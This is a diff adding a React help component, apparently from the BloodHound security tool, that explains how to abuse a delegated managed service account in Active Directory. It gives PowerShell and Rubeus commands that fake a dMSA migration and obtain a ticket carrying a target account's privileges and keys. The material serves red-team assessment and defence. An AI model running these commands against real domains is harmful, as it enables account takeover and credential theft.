@@ -0,0 +1,57 @@
+// Copyright 2026 Specter Ops, Inc.
+//
+// Licensed under the Apache License, Version 2.0
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// SPDX-License-Identifier: Apache-2.0
+
+import { Typography } from 'doodle-ui';
+import { FC } from 'react';
+import CodeController from '../CodeController/CodeController';
+
+const Abuse: FC = () => {
+    return (
+        <>
+            <Typography variant='body1'>Step 1: Create or take control of a dMSA</Typography>
+            <Typography variant='body2'>
+                With the right to create dMSA objects in an OU, create a new dMSA with PowerShell on a host with the
+                Windows Server 2025 Active Directory module:
+            </Typography>
+            <CodeController>
+                {`New-ADServiceAccount -Name <dMSA name> -DNSHostName <dns name> -CreateDelegatedServiceAccount -PrincipalsAllowedToRetrieveManagedPassword <controlled principal> -Path "<OU distinguished name>"`}
+            </CodeController>
+            <Typography variant='body2'>
+                With write access to an existing dMSA, add a controlled principal to its
+                msDS-GroupMSAMembership attribute instead.
+            </Typography>
+
+            <Typography variant='body1'>Step 2: Mark the migration as completed</Typography>
+            <Typography variant='body2'>
+                Point msDS-ManagedAccountPrecededByLink at the target account and set msDS-DelegatedMSAState to 2:
+            </Typography>
+            <CodeController>
+                {`Set-ADObject -Identity "<dMSA distinguished name>" -Replace @{'msDS-ManagedAccountPrecededByLink'='<target distinguished name>'; 'msDS-DelegatedMSAState'=2}`}
+            </CodeController>
+
+            <Typography variant='body1'>Step 3: Authenticate as the dMSA</Typography>
+            <Typography variant='body2'>
+                Request a ticket for the dMSA with Rubeus. The PAC of the resulting ticket contains the group
+                memberships of the target account, and the KERB-DMSA-KEY-PACKAGE contains the target's keys:
+            </Typography>
+            <CodeController>
+                {`Rubeus.exe asktgs /targetuser:<dMSA name>$ /service:krbtgt/<domain> /dmsa /opsec /nowrap /ptt /ticket:<TGT of controlled principal>`}
+            </CodeController>
+        </>
+    );
+};
+
+export default Abuse;